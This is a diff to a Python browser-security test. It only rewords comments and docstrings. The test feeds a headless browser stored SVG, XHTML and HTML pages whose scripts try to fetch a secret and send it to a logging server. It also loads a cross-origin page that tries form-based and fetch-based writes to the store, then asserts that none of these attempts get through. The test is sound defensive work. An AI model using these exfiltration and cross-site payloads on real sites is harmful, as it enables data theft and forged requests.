@@ -1,7 +1,8 @@
-"""What is stored can do nothing to this origin, nor can a page of another one: asked of a real browser.
+"""Stored content cannot do anything to this origin, nor can a page of another origin. A real browser shows
+it.
 
-One browser opens every page; a page of our own that may do what it likes comes last. When everything that
-this one does has arrived, the others had their time.
+One browser opens all pages, and last a page of our own that may do everything. When all its requests have
+arrived, the other pages have had enough time.
 """
 
 from __future__ import annotations
@@ -28,7 +29,7 @@ FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-
 FLAGS += ["--disable-background-networking", "--disable-component-update", "--disable-sync"]
 FLAGS += ["--remote-debugging-port=0", "--disable-extensions"]
 
-# Each way out asks for a location of its own under {at}, so that the log says which one was open.
+# Each attempt requests a location of its own under {at}, so that the log shows which one got through.
 SCRIPT = """
 fetch('/store/secret').then(r => r.text()).then(t => fetch('{at}-read?' + t));
 fetch('{at}-post', {method: 'POST', body: 'x'});
@@ -54,7 +55,8 @@ SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{at}-onload')">
 <image href="{at}-image" width="9" height="9"/><script><![CDATA[{script}]]></script></svg>"""
 XHTML = """<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="{at}-image" alt=""/>
 <script><![CDATA[{script}]]></script></body></html>"""
-# A page of another origin. A form and no-cors are sent unasked; the rest only if we allow it.
+# A page of another origin. A browser sends a form and no-cors requests without asking us, and the rest only
+# if we allow it.
 EVIL = """<!doctype html>
 <form id="f" method="post" enctype="text/plain" action="{own}/store/by-form" target="g">
 <input name="a"></form>
@@ -74,7 +76,7 @@ def page(template: str, at: str) -> str:
 
 
 class Elsewhere:
-    """Another origin: serves `pages` without any protection, and writes down what it is asked for."""
+    """Another origin. It serves `pages` without any protection, and records its requests."""
 
     def __init__(self) -> None:
         self.pages: dict[str, tuple[str, str]] = {}
@@ -117,7 +119,7 @@ def elsewhere() -> Iterator[Elsewhere]:
 
 
 class Browser:
-    """One browser, told over its debugging port to open pages."""
+    """One browser, which opens pages by its debugging port."""
 
     def __init__(self, folder: Path) -> None:
         folder.mkdir()
@@ -187,7 +189,7 @@ def test_a_stored_page_can_do_nothing_and_another_origin_cannot_write(
 
     elsewhere.pages["/evil"] = ("text/html", EVIL.replace("{own}", own))
     browser.open(elsewhere.url + "/evil")
-    # The same pages where nothing protects: now all of it gets out.
+    # The same pages without protection: now every attempt gets through.
     for name, (kind, template, at) in stored.items():
         elsewhere.pages[f"/{name}"] = (kind, page(template, f"/{at}").replace("/store/", "/"))
     for name in ("leaving.html", "refresh.html", "picture.svg", "page.xhtml", "page.html"):
@@ -199,14 +201,14 @@ def test_a_stored_page_can_do_nothing_and_another_origin_cannot_write(
     asked = requests_in(server)[before:]
     ours = re.compile(
         r"GET /(dashboard/[\w.-]+|events|session|store/\?prefix=&\S+) HTTP/1\.1"
-    )  # what the dashboard itself asks for
+    )  # what the dashboard itself requests
     asked = [line for line in asked if not ours.fullmatch(line)]
     of_pages = {f"GET {path} HTTP/1.1" for path in shown}
     assert of_pages <= set(asked)
     of_evil = {"POST /store/by-form HTTP/1.1", "POST /store/by-fetch HTTP/1.1", "GET /store/secret HTTP/1.1"}
     of_evil |= {"OPTIONS /store/victim HTTP/1.1"}
     assert set(asked) - of_pages <= of_evil
-    assert asked.count("GET /store/secret HTTP/1.1") <= 1  # that of the other origin, which cannot read it
+    assert asked.count("GET /store/secret HTTP/1.1") <= 1  # of the other origin, which cannot read the answer
     assert "/stolen" not in elsewhere.asked
     for name in ("by-form", "by-fetch"):
         assert server.ask("GET", f"/store/{name}").status == 404
